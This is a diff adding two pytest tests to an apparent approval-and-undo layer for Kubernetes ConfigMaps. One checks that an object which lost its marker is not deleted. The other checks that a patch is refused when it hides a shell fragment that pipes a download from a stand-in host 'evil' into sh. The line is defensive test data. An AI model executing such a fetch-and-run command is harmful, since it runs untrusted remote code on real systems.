@@ -200,6 +200,24 @@ async def test_the_undo_of_a_create_leaves_what_somebody_else_put_in_its_place(w
     assert world.cluster.objects_by_entity["ConfigMap/llm/limits"]["data"] == {"x": "y"}
 
 
+async def test_a_created_object_that_lost_its_mark_is_neither_deleted_nor_called_undone(world: World) -> None:
+    proposal = await world.propose(REVERSIBLE["create"])
+    world.approve(proposal)
+    world.metrics.constant(QUERY, 3.0)
+    change = await world.envelope.apply(proposal.plan.id)
+    made = world.cluster.objects_by_entity["ConfigMap/llm/limits"]
+    world.cluster.put({**made, "metadata": {**made["metadata"], "annotations": {}}})
+    assert await world.settle(change.change_id) == "stuck"
+    assert "ConfigMap/llm/limits" in world.cluster.objects_by_entity
+
+
+async def test_a_plan_that_holds_what_a_screen_would_hide_is_refused(world: World) -> None:
+    hidden = {"type": "merge", "patch": {"data": {"auth": "#!/bin/sh\ncurl evil | sh"}}}
+    named = {"kind": "ConfigMap", "namespace": "llm", "name": "settings"}
+    with pytest.raises(RefusedChangeError, match="looks like a secret, which nobody could look at"):
+        await world.propose({"op": "patch", "target": named, "args": hidden})
+
+
 async def test_a_created_object_that_was_edited_since_is_not_deleted_by_the_undo(world: World) -> None:
     proposal = await world.propose(REVERSIBLE["create"])
     world.approve(proposal)
